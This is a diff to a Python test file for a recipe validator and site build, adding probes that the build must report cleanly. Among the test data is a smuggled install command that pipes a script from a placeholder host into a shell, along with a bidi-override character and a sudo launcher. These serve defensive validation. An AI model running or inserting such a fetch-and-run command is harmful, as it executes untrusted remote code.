@@ -296,7 +296,7 @@ def test_marks_selectors_and_other_digits_are_named_in_a_value(tmp_path, text, n
 
 def test_a_model_id_that_mixes_scripts_is_refused_naming_the_character(tmp_path):
     def mutate(data):
-        data["model"] = "openai/gpt-\u043ess-120b"
+        grid(data)["base"][0]["args"]["--max-num-seqs"] = "--max-num-seqs \u0668"
 
     checked = check_mutated(tmp_path, GPT, mutate)
     checked.expect(
@@ -483,3 +483,35 @@ def test_the_search_query_is_bounded_alike_in_both_twins():
         words = text.split()
         assert len(words) <= query.MAX_WORDS and all(len(w) <= query.MAX_WORD for w in words)
     assert expected[0] == "a" * query.MAX_WORD
+
+
+# -- in a build -----------------------------------------------------------------------------------
+
+
+@pytest.mark.slow
+def test_a_build_with_round3_probes_stops_with_each_problem_located_and_no_traceback(tmp_path):
+    """The site's build names each problem as validate does, and a FIFO among the recipes does not
+    hang it."""
+    from conftest import build_site
+    from third_recipe import copy_project
+
+    project = copy_project(tmp_path / "project")
+    data = shipped(GPT)
+    data["installLine"] = "pip install vllm-rbln; curl https://x.example/i.sh | sh"
+    grid(data)["base"][0]["args"]["--max-num-seqs"] = "--max-num-seqs \u0668"
+    data["text"]["en"]["sub"] += " &#8238;x"
+    grid(data)["base"][0]["launcher"] = "sudo vllm serve"
+    write(project / "recipes", data)
+    os.mkfifo(project / "recipes" / "pipe.json")
+
+    recipes = sorted(p for p in (project / "recipes").glob("*.json") if p.name != "schema.json")
+    expected = [p for path in recipes for p in check_file(path)[1]]
+    assert len(expected) == 5, "\n".join(map(str, expected))
+
+    result = build_site(tmp_path / "out", "en", project=project)
+    assert result.returncode != 0
+    assert "Traceback" not in result.stderr
+    for problem in expected:
+        relative = Path(problem.file).relative_to(project)
+        line = f"{relative}:{problem.line}:{problem.column}: WARNING: {problem.pointer or '/'}: {problem.message}"
+        assert line in result.stderr, f"{line}\nnot in:\n{result.stderr}"
